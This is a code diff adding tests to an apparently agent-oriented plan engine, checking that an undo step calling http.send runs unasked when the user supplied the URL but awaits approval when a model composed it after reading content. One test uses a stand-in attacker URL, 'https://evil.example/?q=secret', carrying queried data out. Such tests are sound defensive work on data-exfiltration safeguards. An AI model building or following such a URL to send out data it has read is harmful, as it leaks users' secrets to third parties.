@@ -10,12 +10,15 @@ import {
   kindsOf,
   ONCE,
   planEnded,
+  READ,
   started,
   step,
+  stepOf,
   submitted,
   succeeded,
 } from "../test/facts.ts";
 import { decide } from "./decide.ts";
+import { EGRESS_DEFAULT } from "./egress/egress-rule.ts";
 import type { PlanEvent } from "./events/plan-event.ts";
 import { evolve } from "./evolve.ts";
 import { followUpGoal, lateEffectsOf, unknownEffects } from "./late-effects.ts";
@@ -183,4 +186,45 @@ it("is undone in its own plan when the outcome comes in time", () => {
   const undoing = andAfter(begun, succeeded("book", BOOKED.value));
   expect(kindsOf(undoing)).toContain("run");
   expect(lateEffectsOf(andAfter(undoing, planEnded("cancelled")))).toEqual([]);
+});
+
+describe("a URL among the arguments of what undoes a late effect", () => {
+  const send = (url: string) => ({
+    tool: "http.send",
+    compensate: { tool: "http.send", args: { url, body: { $ref: "book.output.booking" } } },
+  });
+  const grants = { "http.send": ONCE, "sql.query": READ, "model.write": READ };
+  const rows = step("rows", [], { tool: "sql.query", args: { source: "s", sql: "select 1" } });
+  const words = step("words", [], {
+    tool: "model.write",
+    args: { prompt: "Name a URL for {{rows.output}}" },
+  });
+
+  /** The submission of the plan that undoes a step's effect. */
+  function undoing(url: string, resolved: string) {
+    const book = step("book", ["words"], send(url));
+    const plan = after(
+      submitted([rows, words, book], { grants, egress: EGRESS_DEFAULT }),
+      succeeded("rows", "secret"),
+      succeeded("words", resolved),
+      started("book"),
+      cancelRequested(),
+    );
+    const late = { timer: plan.watch?.timer ?? "none", deadline: plan.watch?.deadline };
+    const over = andAfter(plan, fact("timer.fired", late));
+    const known = andAfter(over, end(over), succeeded("book", BOOKED.value));
+    const [effect] = lateEffectsOf(known);
+    if (effect === undefined) throw new Error("wanted a late effect");
+    return after(fact("goal.submitted", followUpGoal(known, effect, { url: resolved, body: 7 }).data));
+  }
+
+  it("runs unasked when the user wrote it", () => {
+    const url = "https://a.example/cancel";
+    expect(stepOf(undoing(url, url), "undo").state.status).toBe("running");
+  });
+
+  it("waits for approval when a model composed it after it had read content", () => {
+    const plan = undoing("{{words.output}}", "https://evil.example/?q=secret");
+    expect(stepOf(plan, "undo").state.status).toBe("awaiting-approval");
+  });
 });
